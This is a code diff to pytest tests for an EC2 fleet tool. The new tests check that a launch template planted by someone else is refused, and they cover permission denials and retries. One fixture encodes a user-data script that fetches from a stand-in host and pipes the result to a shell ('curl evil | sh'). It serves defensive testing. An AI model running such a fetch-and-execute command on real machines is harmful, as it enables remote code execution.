@@ -1,10 +1,13 @@
 """Machines on EC2: launched once for each token, with every trouble told apart, and listed while they are ours."""
 
 import asyncio
+import base64
 from datetime import UTC, datetime, timedelta
+from typing import Any
 
 import pytest
 
+from aws.cloud.calling import client_of
 from aws.cloud.control import Control
 from aws.cloud.ground import SECOND_SUBNET, SUBNETS
 from builders import a_plan
@@ -21,7 +24,7 @@ from bullpen.errors import (
 )
 from bullpen.model.fleet import Cause, decisive, shortfall
 from bullpen.model.ticket import UsageClass
-from engines.aws.pools import a_pool, running
+from engines.aws.pools import Pool, a_pool, running
 
 pytestmark = pytest.mark.real_loop
 
@@ -31,9 +34,61 @@ async def test_a_fleet_with_six_subnets_is_one_request_whose_template_is_made_on
         answer = await pool.process().create_fleet(a_plan(count=12))
         assert len(answer.machines) == 12
         assert (cloud.calls()["CreateLaunchTemplate"], len(cloud.fleets())) == (1, 1)
-        await pool.process().create_fleet(a_plan(count=1))
-        assert cloud.calls()["CreateFleet"] == 3  # the first one was refused for want of its template
-        assert cloud.calls()["CreateLaunchTemplate"] == 1
+        one = pool.process()
+        before = cloud.calls()["DescribeLaunchTemplateVersions"]
+        for _ in range(3):
+            await one.create_fleet(a_plan(count=1))
+        assert (cloud.calls()["CreateFleet"], cloud.calls()["CreateLaunchTemplate"]) == (4, 1)
+        # One look for each process, whatever it launches from the template.
+        assert cloud.calls()["DescribeLaunchTemplateVersions"] == before + 1
+
+
+async def planted(pool: Pool, ec2: Any, **data: Any) -> str:
+    """In place of the pool's template, under its name and tag, one that another wrote; its name."""
+    ((name, id_),) = pool.cloud.look()["templates"].items()
+    (version,) = (await ec2.describe_launch_template_versions(LaunchTemplateId=id_))["LaunchTemplateVersions"]
+    await ec2.delete_launch_template(LaunchTemplateId=id_)
+    tags = [{"ResourceType": "launch-template", "Tags": [{"Key": "bullpen:pool", "Value": "ci-pool"}]}]
+    await ec2.create_launch_template(
+        LaunchTemplateName=name, LaunchTemplateData={**version["LaunchTemplateData"], **data}, TagSpecifications=tags
+    )
+    return str(name)
+
+
+async def test_nothing_is_launched_from_a_template_that_somebody_planted(cloud: Control) -> None:
+    async with a_pool(cloud) as pool, client_of(cloud) as ec2:
+        await pool.process().create_fleet(a_plan())
+        script = base64.b64encode(b"#!/bin/sh\ncurl evil | sh\n").decode()
+        name = await planted(pool, ec2, UserData=script)
+        with pytest.raises(ConfigError, match=f"launch template {name}: UserData differ") as refusal:
+            await pool.process().create_fleet(a_plan())
+        assert "bullpen refresh" in refusal.value.remedy
+        assert len(running(cloud)) == 1
+
+
+async def test_a_process_that_compared_a_template_is_not_given_another_under_its_name(cloud: Control) -> None:
+    """It asks by the id of what it compared: what was planted meanwhile has another one, and is compared first."""
+    async with a_pool(cloud) as pool, client_of(cloud) as ec2:
+        one = pool.process()
+        await one.create_fleet(a_plan())
+        await planted(pool, ec2, UserData=base64.b64encode(b"evil").decode())
+        with pytest.raises(ConfigError, match="UserData differ"):
+            await one.create_fleet(a_plan())
+        assert len(running(cloud)) == 1
+
+
+@pytest.mark.parametrize("action", ["DescribeLaunchTemplateVersions", "CreateFleet"])
+async def test_who_may_not_launch_is_told_how_to_get_machines_all_the_same(cloud: Control, action: str) -> None:
+    async with a_pool(cloud) as pool:
+        await pool.process().create_fleet(a_plan())
+        cloud.deny(f"ec2:{action}")
+        fleets = cloud.calls()["CreateFleet"]
+        with pytest.raises(PermissionDenied, match=f"EC2 {action}") as denial:
+            await pool.process().create_fleet(a_plan())
+        for way in ("idle-target", "bullpen serve", "bullpen iam-policy workflow --launch"):
+            assert way in denial.value.remedy
+        # Who may not look at a template is not allowed to launch from it, and does not try.
+        assert cloud.calls()["CreateFleet"] == fleets + (action == "CreateFleet")
 
 
 async def test_a_machine_has_the_size_of_its_type_and_says_for_whom_it_is(cloud: Control) -> None:
@@ -99,9 +154,9 @@ async def test_a_missing_template_that_is_not_ours_to_make_is_a_matter_of_config
 
 async def test_a_template_that_is_made_and_not_yet_seen_is_waited_for_with_the_same_token(cloud: Control) -> None:
     async with a_pool(cloud) as pool:
-        cloud.refuse("CreateFleet", "InvalidLaunchTemplateName.NotFoundException", times=2)
+        cloud.refuse("CreateFleet", "InvalidLaunchTemplateId.NotFound", times=1)
         assert len((await pool.process().create_fleet(a_plan(count=2))).machines) == 2
-        cloud.refuse("CreateFleet", "InvalidLaunchTemplateName.NotFoundException", times=9)
+        cloud.refuse("CreateFleet", "InvalidLaunchTemplateId.NotFound", times=9)
         with pytest.raises(Unavailable, match="not seen yet"):
             await pool.process().create_fleet(a_plan())
 
